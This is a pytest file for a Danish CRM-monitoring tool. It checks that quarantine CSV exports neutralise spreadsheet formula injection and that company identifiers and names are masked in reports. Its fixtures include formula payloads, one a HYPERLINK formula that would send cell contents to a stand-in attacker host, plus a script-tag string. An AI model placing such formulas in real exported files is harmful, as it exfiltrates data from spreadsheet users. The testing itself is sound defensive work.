"""Issue 16, points 2 and 6: formula injection in `check-data --csv` (R02) and company data where it
does not belong (R17). See docs/decisions.md, "Hostile input".

R02: every cell of the quarantine CSV is quoted; a cell that starts like a formula (OWASP) and every
identifier gets the apostrophe a spreadsheet reads as "text". Checked by parsing the written CSV back
with Python's csv module (and, where LibreOffice is installed, by converting it).

R17: a finding's value that is, or may be, company data (by its column, its code or its look) is
masked in the finding itself, so it reaches no page, workbook, results JSON, check-data JSON or
terminal; only `check-data --csv` has it.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner
from helpers import ACTIVITY_HEADER, EVALUATION_HEADER, MIDTJYLLAND, SAMPLE, act, make_data
from hypothesis import given
from hypothesis import strategies as st

from hubmonitor.cli import main
from hubmonitor.findings import (
    CompanyValues,
    company_key,
    finding,
    hide_company_values,
    looks_private,
    mask,
    shown_file_name,
)
from hubmonitor.io.quarantine_csv import spreadsheet_safe
from hubmonitor.io.results_json import from_document, to_document
from hubmonitor.render.privacy import finding_message, is_masked_name, shown_value
from hubmonitor.render.terminal import quality_lines
from hubmonitor.render.workbook import workbook_bytes
from hubmonitor.report import Finding

# --- R02: the quarantine CSV ----------------------------------------------------------------

# the reproduction's file: formulas in the id, the company id, the name, the municipality, the
# date and the activity type
R02_ROWS = [
    '@SUM(A1),2024-03-01,=1+1,,"=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")",Atlantis,drift,'
    'individuel,nej,nej,',
    'A2,2024-03-01,C2,,Firma,"=HYPERLINK(""http://evil.example"",""click"")",drift,individuel,nej,nej,',
    "A3,+1+1,C3,,Firma,Aarhus,drift,-2+3,nej,nej,",
]


def _folder(tmp_path: Path, lines: list[str]) -> Path:
    data = tmp_path / "data"
    data.mkdir()
    (data / "crm_activities.csv").write_text("\n".join([ACTIVITY_HEADER, *lines]) + "\n", encoding="utf-8")
    (data / "evaluations.csv").write_text(EVALUATION_HEADER + "\n", encoding="utf-8")  # header only
    return data


def _check_data_csv(tmp_path: Path, lines: list[str]) -> tuple[str, list[list[str]]]:
    out = tmp_path / "q.csv"
    result = CliRunner().invoke(main, ["check-data", str(_folder(tmp_path, lines)), "--csv", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")  # the byte-order mark Danish Excel needs
    body = text.removeprefix("\ufeff")
    return body, list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def _all_quoted(body: str, rows: list[list[str]]) -> bool:
    """Writing the parsed cells back with every cell quoted gives the file: every cell was quoted,
    and quotes inside were doubled."""
    again = io.StringIO()
    csv.writer(again, delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return again.getvalue() == body


def test_r02_formula_cells_in_check_data_csv_are_neutralised(tmp_path: Path) -> None:
    body, rows = _check_data_csv(tmp_path, R02_ROWS)
    assert _all_quoted(body, rows)
    assert rows[0] == ["source", "file", "sheet", "row", "reasons", "activity_id", "date", "company_id", "cvr",
                       "company_name", "municipality", "segment", "activity_type", "growth_programme", "referred",
                       "topics", "registered_at"]
    assert rows[1:] == [
        ["activities", "crm_activities.csv", "", "2", "unknown-municipality (municipality)", "'@SUM(A1)",
         "2024-03-01", "'=1+1", "", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")", "Atlantis", "drift",
         "individuel", "nej", "nej", "", ""],
        ["activities", "crm_activities.csv", "", "3", "unknown-municipality (municipality)", "'A2", "2024-03-01",
         "'C2", "", "Firma", "'=HYPERLINK(\"http://evil.example\",\"click\")", "drift", "individuel", "nej", "nej",
         "", ""],
        ["activities", "crm_activities.csv", "", "4", "bad-date (date); unknown-activity-type (activity_type)",
         "'A3", "'+1+1", "'C3", "", "Firma", "Aarhus", "drift", "'-2+3", "nej", "nej", "", ""],
    ]
    # no cell a spreadsheet would run: none starts with = + - @, tab or CR
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_r02_company_ids_keep_their_exact_text(tmp_path: Path) -> None:
    # ids Excel or LibreOffice would turn into 7123, 1.23457E+15, a date, 100000 or 0.75; all in
    # quarantined rows (an unknown municipality), one with the separator and a quote inside
    ids = ["007123", "1234567890123456", "1-2", "3/4", "1E5", 'C"7;8']
    cells = [*ids[:-1], '"C""7;8"']  # as the export writes the last one
    lines = [f"A{n},2024-03-01,{cell},01234567,Firma,Atlantis,drift,individuel,,," for n, cell in enumerate(cells)]
    body, rows = _check_data_csv(tmp_path, lines)
    assert _all_quoted(body, rows)
    column = rows[0].index("company_id")
    assert [r[column] for r in rows[1:]] == ["'" + i for i in ids]
    assert [r[column][1:] for r in rows[1:]] == ids  # the id is the text after the apostrophe
    assert {r[rows[0].index("cvr")] for r in rows[1:]} == {"'01234567"}
    assert {r[rows[0].index("municipality")] for r in rows[1:]} == {"Atlantis"}  # not an id: as it was


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),  # OWASP's four
    ("\t=1+1", "'\t=1+1"), ("\rx", "'\rx"), ("\x00x", "'\x00x"),  # tab, CR (OWASP), NUL (ASVS)
    (" =1+1", "' =1+1"), ("\n@x", "'\n@x"), ("\u00a0-1", "'\u00a0-1"),  # a trigger after white space
    ("＝1+1", "'＝1+1"), ("＠x", "'＠x"),  # full-width forms
    ("a=b", "a=b"), ("1-2", "1-2"), ("Aarhus", "Aarhus"), ("'quoted", "'quoted"), (" x", " x"), ("", ""),
])
def test_a_cell_that_starts_like_a_formula_gets_the_apostrophe(cell: str, written: str) -> None:
    rows = pl.DataFrame({"municipality": [cell, None], "row": [2, 3]})
    assert spreadsheet_safe(rows).rows() == [(written, 2), (None, 3)]


def test_identifiers_always_get_the_apostrophe_and_empty_cells_stay_empty() -> None:
    rows = pl.DataFrame({"company_id": ["ACC-1", "007", "=1", "", None], "segment": ["007"] * 5})
    safe = spreadsheet_safe(rows, frozenset({"company_id"}))
    assert safe["company_id"].to_list() == ["'ACC-1", "'007", "'=1", "", None]
    assert safe["segment"].to_list() == ["007"] * 5


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_r02_libreoffice_reads_every_neutralised_cell_as_text(tmp_path: Path) -> None:  # pragma: no cover
    openpyxl = pytest.importorskip("openpyxl")
    _check_data_csv(tmp_path, [*R02_ROWS, "A4,2024-03-01,007123,,Firma,Atlantis,drift,individuel,,,"])
    subprocess.run(["soffice", "--headless", "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir",
                    str(tmp_path), str(tmp_path / "q.csv")], check=True, capture_output=True)
    sheet = openpyxl.load_workbook(tmp_path / "q.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'007123" in [c.value for c in cells]


# --- R17: company data where it does not belong ---------------------------------------------

LEAKS = ("86046431", "LEAKID", "777777", "LEAKNAME", "Hemmelig")


def _leaky_folder(tmp_path: Path) -> Path:
    """The sample with a CVR number in a municipality cell, a company name in a segment cell and a
    company id in a date cell (rows 6, 7 and 8 of the 2024 file: the contract year)."""
    data = tmp_path / "data"
    shutil.copytree(SAMPLE, data)
    path = data / "crm_activities_2024.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    rows[5][5] = "86046431"
    rows[6][6] = "LEAKNAME Hemmelig ApS"
    rows[7][1] = "LEAKID-777777"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    return data


def _company_data() -> set[str]:
    """Every company id, CVR number and name in the sample's files."""
    values: set[str] = set()
    for path in SAMPLE.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh):
                values |= {(row.get(c) or "").strip() for c in ("company_id", "cvr", "company_name")}
    return {v for v in values if v}


def _leaked(text: str, company: set[str]) -> list[str]:
    return [v for v in (*LEAKS, *company) if v in text]


def _workbook_strings(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


def test_r17_company_data_in_other_columns_never_leaves_the_hub(tmp_path: Path) -> None:
    data, company = _leaky_folder(tmp_path), _company_data()
    runner = CliRunner()
    evaluated = runner.invoke(main, ["evaluate", str(MIDTJYLLAND), "--data", str(data), "--json",
                                     str(tmp_path / "r.json")])
    assert evaluated.exit_code == 0, evaluated.output
    results = (tmp_path / "r.json").read_text(encoding="utf-8")
    assert _leaked(evaluated.stdout, company) == []  # the terminal (pasted into mails)
    assert _leaked(results, company) == []  # the results JSON: no CVR number, id or name

    quality = json.loads(results)["data_quality"]
    found = {(f["code"], f["row"], f["column"]): (f["value"], f.get("sensitive"), f["reason"])
             for f in quality["quarantined"] + quality["warnings"] if f["file"] == "crm_activities_2024.csv"}
    assert found[("unknown-municipality", 6, "municipality")] == (
        "########", True, "ukendt kommune '########' (værdien vises ikke: kan være virksomhedsdata)")
    assert found[("unknown-segment", 7, "segment")] == (
        "XXXXXXXX XXXXXXXX X…", True,
        "ukendt segment 'XXXXXXXX XXXXXXXX X…' (værdien vises ikke: kan være virksomhedsdata)")
    assert found[("bad-date", 8, "date")][:2] == ("XXXXXX-######", True)
    cvrs = [v for key, v in found.items() if key[0] == "bad-cvr-checksum"]
    assert cvrs and {(value, sensitive) for value, sensitive, _ in cvrs} == {("########", True)}

    site = runner.invoke(main, ["dashboard", str(tmp_path / "r.json"), "--out", str(tmp_path / "dash")])
    assert site.exit_code == 0, site.output
    pages = {p: p.read_bytes() for p in (tmp_path / "dash").rglob("*") if p.is_file()}
    html = "\n".join(b.decode("utf-8") for p, b in pages.items() if p.suffix == ".html")
    assert "ukendt kommune &#x27;########&#x27; (værdien vises ikke: kan være virksomhedsdata)" in html
    assert _leaked(html, company) == []
    books = [b for p, b in pages.items() if p.suffix == ".xlsx"]
    assert books and _leaked("\n".join(_workbook_strings(b) for b in books), company) == []

    checked = runner.invoke(main, ["check-data", str(data), "--json", str(tmp_path / "q.json"),
                                   "--csv", str(tmp_path / "q.csv")])
    assert checked.exit_code == 0, checked.output
    assert _leaked(checked.stdout, company) == []
    assert _leaked((tmp_path / "q.json").read_text(encoding="utf-8"), company) == []
    # the hub's own list has them, as they were
    internal = (tmp_path / "q.csv").read_text(encoding="utf-8-sig")
    assert all(v in internal for v in ("86046431", "LEAKNAME Hemmelig ApS", "LEAKID-777777"))


@pytest.mark.parametrize("value", [
    "Atlantis", "stjerne", "2024-13-45", "31-02-2024", "Ikast Brande", "751", "12345", "2024-12-31 14:05", "#N/A",
    "<script>alert(1)</script>", "@SUM(A1)", '=HYPERLINK("http://x")', "Forventer at benytte", "Meget tilfreds.",
])
def test_a_value_that_cannot_be_company_data_is_shown(value: str) -> None:
    assert not looks_private(value)
    f = finding("unknown-municipality", "crm.csv", 2, "municipality", value)
    assert (f.value, f.sensitive, f.message) == (value, False, f"ukendt kommune {value!r}")


@pytest.mark.parametrize(("value", "masked"), [
    ("86046431", "########"), ("8604 6431", "#### ####"), ("DK86046431", "XX########"),
    ("DK 86 04 64 31", "XX ## ## ## ##"), ("LEAKID-777777", "XXXXXX-######"), ("ACC-108996", "XXX-######"),
    ("LEAKNAME Hemmelig ApS", "XXXXXXXX XXXXXXXX X…"), ("Hemmelig ApS", "XXXXXXXX XXX"), ("Lego A/S", "XXXX X/X"),
    ("Byg I/S", "XXX X/X"), ("Nordisk Holding", "XXXXXXX XXXXXXX"), ("kontakt@firma.dk", "XXXXXXX@XXXXX.XX"),
    ("８６０４６４３１", "########"),  # full-width digits (NFKC)
    ("86\u200b046431", "########"),  # an invisible character between the digits
    ("a\x1b[2Jb", "X[#XX"),  # a terminal escape
    ("Virksomheden der har et meget langt navn", "XXXXXXXXXXXX XXX XX…"),  # over 30 characters
])
def test_a_value_that_may_be_company_data_is_masked(value: str, masked: str) -> None:
    assert looks_private(value)
    assert mask(value) == masked and mask(masked) == masked and len(masked) <= 20
    f = finding("unknown-segment", "crm.csv", 2, "segment", value)
    assert (f.value, f.sensitive) == (masked, True)
    assert f.message == f"ukendt segment {masked!r} (værdien vises ikke: kan være virksomhedsdata)"
    assert f.message_en == f"unknown segment {masked!r} (value not shown: may be company data)"


def test_company_columns_and_id_codes_are_masked_whatever_the_value() -> None:
    assert finding("bad-cvr-format", "crm.csv", 3, "cvr", "1234").value == "####"
    copy = finding("duplicate-row", "crm.csv", 3, None, "A1")  # its message never showed the value
    assert (copy.value, copy.message) == ("X#", "præcis dublet af en tidligere række; tælles én gang")
    assert finding("duplicate-id", "crm.csv", 3, "activity_id", "A2").message == (
        "id 'X#' står også på en anden række med andet indhold (værdien vises ikke: kan være virksomhedsdata)")
    assert finding("bad-number", "crm.csv", 3, "revenue", "12 mio", sensitive=True).value == "## XXX"
    assert finding("missing-company-id", "crm.csv", 3, "company_id").message == "virksomheds-id mangler"


def test_a_value_equal_to_a_company_of_the_data_or_shaped_like_its_ids_is_masked() -> None:
    known = CompanyValues.of(["C7", "ACC-1089"], ["Nordisk  Fjer"])
    shown = [finding("unknown-segment", "crm.csv", n, "segment", v)
             for n, v in enumerate(["c7", "nordisk fjer", "ACC-2024", "Atlantis", "7C"], start=2)]
    assert [f.value for f in shown] == ["c7", "nordisk fjer", "ACC-2024", "Atlantis", "7C"]  # by look: shown
    hidden = hide_company_values(shown, known)
    assert [(f.value, f.sensitive) for f in hidden] == [
        ("X#", True), ("XXXXXXX XXXX", True), ("XXX-####", True), ("Atlantis", False), ("7C", False)]
    assert hidden[1].message_en == "unknown segment 'XXXXXXX XXXX' (value not shown: may be company data)"


_IDS_AND_NAMES = st.lists(st.sampled_from(["C7", "ACC-1089", "acc-1089.", "Nordisk  Fjer", "Aarhus", "ApS", "",
                                           "  ", "7C", "Jensens Tømrer ApS"]) | st.text(max_size=12), max_size=6)


@given(_IDS_AND_NAMES, _IDS_AND_NAMES, _IDS_AND_NAMES)
def test_company_values_of_two_lists_joined_are_those_of_the_lists_together(first: list[str], ids: list[str],
                                                                           names: list[str]) -> None:
    """The masking keys the read's first ids once (``quality._first_ids``) and joins each
    evaluation's own: the same keys and shapes as keying them all together."""
    def common(key: str) -> bool:
        return key == "aarhus"

    assert CompanyValues.of(ids, names, common).joined(CompanyValues.of(first)) == \
        CompanyValues.of([*first, *ids], names, common)


def test_a_results_json_written_before_is_masked_when_shown() -> None:
    """A results JSON from before this rule (the value in the finding and its message) shows no
    company data on the pages, in the workbook or on the terminal either."""
    import hubmonitor

    report = hubmonitor.evaluate(MIDTJYLLAND, SAMPLE)
    doc = to_document(report)
    old = [{"file": "crm_activities_2024.csv", "sheet": None, "row": 7, "reason": "ukendt kommune '86046431'",
            "code": "unknown-municipality", "column": "municipality", "value": "86046431",
            "reason_en": "unknown municipality '86046431'"},
           {"file": "crm_activities_2024.csv", "sheet": None, "row": 9, "reason": "CVR-nummer '62327864' består ikke "
            "modulus 11-kontrollen", "code": "bad-cvr-checksum", "column": "cvr", "value": "62327864",
            "reason_en": "CVR number '62327864' fails the modulus 11 check", "sensitive": True}]
    doc["data_quality"]["quarantined"] = old[:1]
    doc["data_quality"]["warnings"] = old[1:]
    back = from_document(json.loads(json.dumps(doc, default=str)))
    shown = [(shown_value(f), finding_message(f, "en")) for f in back.data_quality.findings]
    assert shown == [("########", "unknown municipality '########' (value not shown: may be company data)"),
                     ("########", "CVR number '########' fails the modulus 11 check (value not shown: may be "
                                  "company data)")]
    assert not [line for line in quality_lines(back.data_quality) if "86046431" in line or "62327864" in line]
    strings = _workbook_strings(workbook_bytes(back))
    assert "86046431" not in strings and "62327864" not in strings


def test_a_finding_made_by_hand_is_masked_when_shown() -> None:
    f = Finding(code="unknown-date-code", severity="warning", file="x.csv", row=2, column="date",
                value="86046431", message="86046431", message_en="86046431")
    assert (shown_value(f), finding_message(f, "da")) == (
        "########", "unknown-date-code (værdien vises ikke: kan være virksomhedsdata)")


def test_a_company_of_the_data_typed_into_another_column_is_masked_in_the_results(tmp_path: Path) -> None:
    """End to end: a company id of the export (``C7``) typed into the municipality column and a
    company's name with no company form (``Nordisk Fjer``) in the segment column look harmless, but
    they are the data's own companies: masked in check-data's and evaluate's findings alike, while a
    plain misspelling (``Aarhuus``) is shown."""
    data = tmp_path / "data"
    data.mkdir()
    lines = [
        "A1,2024-03-01,C7,,Nordisk Fjer,Aarhus,drift,individuel,false,false,",
        "A2,2024-03-02,C8,,Firma C8,C7,drift,individuel,false,false,",
        "A3,2024-03-03,C9,,Firma C9,Aarhus,nordisk fjer,individuel,false,false,",
        "A4,2024-03-04,C10,,Firma C10,Aarhuus,drift,individuel,false,false,",
    ]
    (data / "crm_activities.csv").write_text("\n".join([ACTIVITY_HEADER, *lines]) + "\n", encoding="utf-8")
    (data / "evaluations.csv").write_text(EVALUATION_HEADER + "\n", encoding="utf-8")
    runner = CliRunner()
    runner.invoke(main, ["check-data", str(data), "--json", str(tmp_path / "q.json")], catch_exceptions=False)
    runner.invoke(main, ["evaluate", str(MIDTJYLLAND), "--data", str(data), "--json", str(tmp_path / "r.json")],
                  catch_exceptions=False)
    for name in ("q.json", "r.json"):
        doc = json.loads((tmp_path / name).read_text(encoding="utf-8"))
        shown = sorted((f["row"], f["column"], f["value"]) for key in ("quarantined", "warnings")
                       for f in doc.get("data_quality", doc).get(key, []) if f["column"] in ("municipality", "segment"))
        assert shown == [(3, "municipality", "X#"), (4, "segment", "XXXXXXX XXXX"),
                         (5, "municipality", "Aarhuus")], name


# --- the review of issue 16, defect 2: masking gaps -------------------------------------------

# What a finding shows of a value with digits (docs/decisions.md, "Company data in findings"): six
# digits or more with at most one separator between two of them are masked, unless the whole value
# is a date (or date and time) or a decimal number.
DIGITS = [
    # shown: dates and date-times (a bad date must be seen), decimal numbers, codes, times
    ("2024-13-45", None), ("31.02.2024", None), ("31-02-2024", None), ("2024/03/01", None), ("1/3/2024", None),
    ("2024-12-31 14:05", None), ("2024-12-31T14:05:59", None), ("31.12.2024 14.05", None),
    ("0000-01-01", None), ("9999-12-31", None), ("1234.56", None), ("7,5", None), ("-12345.5", None),
    ("3.14159", None), ("1.234,56", None), ("751", None), ("12345", None), ("12:30:45", None),
    # a review (7 December 2026): a month, a span of years and a date with a two-digit year whose day and
    # month are a calendar's are dates too (a director saw "##.##.##" for the bad date 03.02.26)
    ("03.02.26", None), ("31.02.24", None), ("1/3-26", None), ("2026-01", None), ("01.2026", None),
    ("2023-2024", None), ("2023/2024", None),
    # masked: a CVR or phone number however it is written, a compact date, a large decimal number
    ("83-50-51-76", "##-##-##-##"), ("8350-5176", "####-####"), ("83.50.51.76", "##.##.##.##"),
    ("83/50/51/76", "##/##/##/##"), ("DK-83505176", "XX-########"), ("83 50 51 76", "## ## ## ##"),
    ("83\u00a050\u00a051\u00a076", "## ## ## ##"),  # no-break spaces
    ("8350\u20135176", "####\u2013####"),  # an en dash
    ("+45 12 34 56 78", "+## ## ## ## ##"), ("20240301", "########"), ("12.34.56", "##.##.##"),
    ("45.13.26", "##.##.##"), ("2024-13", "####-##"), ("12.10.45.67", "##.##.##.##"), ("31 02 24", "## ## ##"),
    ("8350-51-76", "####-##-##"),  # no year 8350: a CVR number, not a date
    ("2024-04-19 83505176", "####-##-## ########"), ("123456.78", "######.##"), ("12345.6789", "#####.####"),
]


@pytest.mark.parametrize(("value", "masked"), DIGITS)
def test_review2_digit_runs_with_separators_are_masked_and_dates_shown(value: str, masked: str | None) -> None:
    f = finding("unknown-municipality", "crm.csv", 2, "municipality", value)
    assert looks_private(value) is (masked is not None)
    assert (f.value, f.sensitive) == ((value, False) if masked is None else (masked, True))


@pytest.mark.parametrize(("value", "key"), [
    ("Virksomhed 6638 ApS", "virksomhed 6638"), ("Virksomhed 6638", "virksomhed 6638"),
    ("Jensens Tømrer.", "jensens tømrer"), ("  JENSENS   TØMRER  A/S ", "jensens tømrer"),
    ("Ｊｅｎｓｅｎｓ Tømrer I/S", "jensens tømrer"), ("Jensens Tømrer, ApS", "jensens tømrer"),
    ("Lego A.m.b.A.", "lego"), ('"Nordisk Fjer"', "nordisk fjer"), ("Nordisk Fjer Holding ApS", "nordisk fjer"),
    ("ACC-106638", "acc-106638"), ("ApS", ""),
])
def test_review2_company_key_is_one_normalisation(value: str, key: str) -> None:
    assert company_key(value) == key


def test_review2_a_name_without_its_company_form_is_a_company_of_the_data() -> None:
    known = CompanyValues.of(["ACC-106638"], ["Virksomhed 6638 ApS", "Jensens Tømrer ApS", "Aarhus ApS", "Drift ApS",
                                              "AB ApS"], common=lambda key: key in {"aarhus", "drift"})
    assert {v: known.holds(v) for v in ["Virksomhed 6638", "Jensens Tømrer.", "jensens  TØMRER", "ACC-106638",
                                        "acc-999999", "Aarhus", "drift", "AB", "Jensens", "Tømrer"]} == {
        "Virksomhed 6638": True, "Jensens Tømrer.": True, "jensens  TØMRER": True, "ACC-106638": True,
        "acc-999999": True,  # the shape of an id
        "Aarhus": False, "drift": False,  # a company named after a word of the vocabulary hides no such word
        "AB": False,  # a name's key of fewer than three characters hides nothing
        "Jensens": False, "Tømrer": False}  # a part of a name is not the name


def _review_folder(tmp_path: Path) -> Path:
    """The reviewer's reproduction: the sample with a row whose municipality is a CVR number with
    dashes and whose segment is a company's name without its company form, and a file whose name holds
    a company's name and CVR number."""
    data = tmp_path / "d"
    shutil.copytree(SAMPLE, data)
    with (data / "crm_activities_2024.csv").open("a", encoding="utf-8") as fh:
        fh.write("A9999991,2024-04-19,ACC-106638,83505176,Virksomhed 6638 ApS,83-50-51-76,Virksomhed 6638,"
                 "individuel,FALSE,1,finansiering\n")
        fh.write("A9999992,2024-04-20,ACC-101731,17735497,Jensens Tømrer ApS,Herning,Jensens Tømrer.,"
                 "individuel,FALSE,1,finansiering\n")
    (data / "Tilbud Hemmelig ApS 86046431.pdf").write_bytes(b"%PDF-1.4\n")
    return data


def test_review2_reviewers_values_and_file_name_are_masked(tmp_path: Path) -> None:
    data, runner = _review_folder(tmp_path), CliRunner()
    evaluated = runner.invoke(main, ["evaluate", str(MIDTJYLLAND), "--data", str(data), "--json",
                                     str(tmp_path / "r.json"), "--wide"])  # lines whole
    assert evaluated.exit_code == 0, evaluated.output
    text = (tmp_path / "r.json").read_text(encoding="utf-8")
    for leak in ("83-50-51-76", "Virksomhed 6638", "Jensens", "Hemmelig", "86046431"):
        assert leak not in text and leak not in evaluated.stdout, leak
    doc = json.loads(text)
    found = {(f["code"], f["row"], f["column"]): (f["value"], f.get("sensitive"))
             for f in doc["data_quality"]["quarantined"] if f["row"] in (7182, 7183)}
    assert found == {("unknown-municipality", 7182, "municipality"): ("##-##-##-##", True),
                     ("unknown-segment", 7182, "segment"): ("XXXXXXXXXX ####", True),
                     ("unknown-segment", 7183, "segment"): ("XXXXXXX XXXXXX.", True)}
    assert doc["unread_files"] == ["XXXXXX XXXXXXXX XXX ########.pdf"]
    assert ("  XXXXXX XXXXXXXX XXX ########.pdf  (navnet vises ikke: kan være virksomhedsdata; hubmonitor "
            "check-data viser det)") in evaluated.stdout.splitlines()
    assert ("    crm_activities_2024.csv:7182 municipality: ukendt kommune '##-##-##-##' (værdien vises ikke: kan være "
            "virksomhedsdata)") in evaluated.stdout.splitlines()
    # the dashboard: pages and workbook
    site = runner.invoke(main, ["dashboard", str(tmp_path / "r.json"), "--out", str(tmp_path / "site")])
    assert site.exit_code == 0, site.output
    pages = [p for p in (tmp_path / "site").rglob("*") if p.is_file()]
    shown = "\n".join(p.read_text(encoding="utf-8") for p in pages if p.suffix == ".html")
    shown += "\n".join(_workbook_strings(p.read_bytes()) for p in pages if p.suffix == ".xlsx")
    assert [leak for leak in ("83-50-51-76", "Virksomhed 6638", "Jensens", "Hemmelig") if leak in shown] == []
    # check-data's terminal lists the folder as it is (the user's own folder); its findings are masked
    checked = runner.invoke(main, ["check-data", str(data)])
    assert checked.exit_code == 0, checked.output
    assert "  Tilbud Hemmelig ApS 86046431.pdf" in checked.stdout.splitlines()
    assert "83-50-51-76" not in checked.stdout and "Virksomhed 6638" not in checked.stdout


def test_review2_a_company_named_like_a_word_of_the_vocabulary_hides_nothing(tmp_path: Path) -> None:
    """``Odense ApS`` and ``Vækst ApS`` are companies of the data, yet ``Odense`` (outside the hub) is
    shown; a name written differently (full-width letters, another case, no form, a trailing dot) in
    another column is masked, also where the data holds the name in full-width letters."""
    data = tmp_path / "data"
    lines = [act(f"A{i}", "2024-03-01", f"C{i}", "Aarhus") for i in range(6)]
    lines += [
        act("A10", "2024-03-02", "C10", name="Odense ApS"), act("A11", "2024-03-02", "C11", name="Vækst ApS"),
        act("A12", "2024-03-02", "C12", name="Jensens Tømrer ApS"),
        act("A13", "2024-03-02", "C13", name="Ｎｏｒｄｉｓｋ Fjer ApS"), act("A14", "2024-03-02", "C14", name="AB ApS"),
        act("A20", "2024-03-03", "C20", "Odense"), act("A21", "2024-03-03", "C21", segment="ＪＥＮＳＥＮＳ TØMRER"),
        act("A22", "2024-03-03", "C22", segment="nordisk fjer."), act("A23", "2024-03-03", "C23", segment="AB"),
        act("A24", "2024-03-03", "C24", segment="Odense"),
    ]
    make_data(data, activities=lines)
    result = CliRunner().invoke(main, ["evaluate", str(MIDTJYLLAND), "--data", str(data), "--json",
                                       str(tmp_path / "r.json")])
    assert result.exit_code == 0, result.output
    quality = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["data_quality"]
    shown = sorted((f["row"], f["code"], f["value"]) for f in quality["quarantined"] + quality["warnings"])
    # (2024 is over by the tests' day and its data end on 3 March: whole, with data-ends-early)
    assert shown == [(13, "data-ends-early", "2024-03-03"), (13, "outside-hub", "Odense"),
                     (14, "unknown-segment", "XXXXXXX XXXXXX"),
                     (15, "unknown-segment", "XXXXXXX XXXX."), (16, "unknown-segment", "AB"),
                     (17, "unknown-segment", "Odense")]


@pytest.mark.parametrize(("name", "shown"), [
    ("Tilbud Hemmelig ApS 86046431.pdf", "XXXXXX XXXXXXXX XXX ########.pdf"),
    ("sub/Hemmelig ApS/x.csv", "sub/XXXXXXXX XXX/x.csv"), ("kontakt@firma.dk.txt", "XXXXXXX@XXXXX.XX.txt"),
    ("x.86046431", "X.########"),  # no extension: the whole name is masked
    ("README.md", "README.md"), ("crm-2024.CSV", "crm-2024.CSV"), ("old/", "old/"),
    ("Eksport fra CRM-systemet januar til marts 2024.xlsx", "Eksport fra CRM-systemet januar til marts 2024.xlsx"),
    ("eksport 2024-03-01.csv", "eksport 2024-03-01.csv"),
    ("nordcrm_2026-01.csv", "nordcrm_2026-01.csv"), ("crm 2023-2024.csv", "crm 2023-2024.csv"),
])
def test_review2_a_file_name_that_may_be_company_data_is_masked(name: str, shown: str) -> None:
    assert shown_file_name(name) == shown
    assert is_masked_name(shown) is (shown != name)
